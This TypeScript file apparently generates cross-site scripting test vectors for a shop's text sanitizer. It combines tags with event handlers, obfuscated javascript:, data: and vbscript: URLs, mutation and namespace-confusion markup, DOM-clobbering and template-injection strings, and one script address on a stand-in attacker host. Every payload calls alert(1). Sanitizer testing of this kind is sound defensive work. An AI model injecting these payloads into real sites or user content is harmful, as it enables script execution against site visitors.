// XSS vectors for stored text, written for this shop after the families of public lists: handlers, URLs, foreign content,
// mutation, broken tags, encodings. Each would call alert(1) where it is not stopped.
import { readFileSync } from "node:fs";

const CALL = "alert(1)";

const TAGS =
  "img video audio svg math body details marquee input select textarea button iframe object embed form a div".split(
    " ",
  );
const HANDLERS =
  "onerror onload onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter onclick onscrollend".split(
    " ",
  );

/** Every tag with every handler, and with attributes that make the handler fire by itself. */
function handlers(): string[] {
  return TAGS.flatMap((tag) =>
    HANDLERS.map(
      (handler) => `<${tag} src=x href=x open autofocus tabindex=1 ${handler}="${CALL}">x</${tag}>`,
    ),
  );
}

const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java&#x09;script:alert(1)",
  "java&Tab;script:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
  "javascript&colon;alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://example.se/%0aalert(1)",
  "vbscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "blob:http://localhost/x",
  "//evil.example/x.js",
  "\\\\evil.example\\x",
];

const PLACES = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address: string) => `<math href="${address}">x</math>`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
];

const WRITTEN = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=data:,${CALL}></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/x>${CALL}</script>`,
  `<script\n>${CALL}</script\n>`,
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `--><script>${CALL}</script><!--`,
  `]]><script>${CALL}</script>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${CALL}"><a id=x><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${CALL}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${CALL}</script>"></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${CALL}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<select><template><img src=x onerror=${CALL}></template></select>`,
  `<table><td><img src=x onerror=${CALL}></table>`,
  `<listing>&lt;img onerror="${CALL}" src=x&gt;</listing>`,
  `<textarea><img src=x onerror=${CALL}></textarea>`,
  `<title><img src=x onerror=${CALL}></title>`,
  `<style>@import 'data:text/css,*{background:url(javascript:${CALL})}';</style>`,
  `<style>*{animation:x 1s}@keyframes x{}</style><p onanimationstart=${CALL}>x</p>`,
  `<div style="background:url(javascript:${CALL})">x</div>`,
  `<div style="width:expression(${CALL})">x</div>`,
  `<link rel=stylesheet href="javascript:${CALL}">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<base href="javascript:/a/-${CALL}//"><a href=./x>x</a>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="<svg onload=parent.${CALL}>"></iframe>`,
  `<embed src="data:text/html,<script>${CALL}</script>">`,
  `<object><param name=movie value="javascript:${CALL}"></object>`,
  `<video><source onerror=${CALL}></video>`,
  `<video poster=javascript:${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<img src=x onerror=${CALL}//`,
  `<img src=x:x onerror=${CALL} `,
  `<img/src=x/onerror=${CALL}>`,
  `<img src='x'onerror='${CALL}'>`,
  "<img src=`x` onerror=`alert(1)`>",
  `<img \u0000src=x onerror=${CALL}>`,
  `<img src=x on\u0000error=${CALL}>`,
  `<img src=x oNeRrOr=${CALL}>`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>`,
  `<img srcset="x 1x" src=x onerror=${CALL}>`,
  `<img src=x onerror="window['al'+'ert'](1)">`,
  `<img src=x onerror="top[/al/.source+/ert/.source](1)">`,
  `<img src=x onerror=\\u0061lert(1)>`,
  `<img name=attributes><img src=x onerror=${CALL}>`,
  `<form id=x><input name=attributes><input name=nodeName></form><img src=x onerror=${CALL}>`,
  `<form name=body><input name=firstChild></form><img src=x onerror=${CALL}>`,
  `<a id=defaultView><a id=defaultView name=alert href="javascript:${CALL}">x</a>`,
  `<a href="https://example.se" onclick=${CALL}>x</a>`,
  `<a target=_blank href="javascript:${CALL}" rel=opener>x</a>`,
  `<button popovertarget=x onclick=${CALL}>x</button><div popover id=x onbeforetoggle=${CALL}>x</div>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<dialog open onclose=${CALL}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<input autofocus onfocus=${CALL}>`,
  `<keygen autofocus onfocus=${CALL}>`,
  `<isindex action="javascript:${CALL}" type=image>`,
  `<frameset onload=${CALL}></frameset>`,
  `<body onpageshow=${CALL}>`,
  `<x onclick=${CALL} tabindex=1 id=x autofocus onfocus=${CALL}>x</x>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
  `<custom-element onconnected=${CALL} is=x></custom-element>`,
  `<p is="x" onfocusin=${CALL} tabindex=0 autofocus>x</p>`,
  `<p dir=ltr lang="sv" onmouseover=${CALL} data-x="<img src=x onerror=${CALL}>">x</p>`,
  `{{constructor.constructor('${CALL}')()}}`,
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "\u2028<script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  `";alert(1);//`,
  `\\";alert(1);//`,
  `</script><svg onload=${CALL}>`,
  `<!DOCTYPE html><html><body onload=${CALL}>`,
  `<p>\u202E<script>${CALL}</script></p>`,
  `${"<div>".repeat(600)}<img src=x onerror=${CALL}>`,
  `${"<svg><g>".repeat(120)}<style><img src=x onerror=${CALL}></style>`,
  `<a href="${"x".repeat(5000)}" onclick=${CALL}>x</a>`,
];

export const xssVectors: readonly string[] = [
  ...WRITTEN,
  ...handlers(),
  ...SCHEMES.flatMap((scheme) => PLACES.map((place) => place(scheme))),
];

/** Our own vectors, and the lines of the public list that XSS_LIST names. */
export function allVectors(): string[] {
  const list = process.env.XSS_LIST;
  const lines = list
    ? readFileSync(list, "utf8")
        .split(/\r?\n/)
        .filter((line) => line.trim() !== "")
    : [];
  return [...xssVectors, ...lines];
}
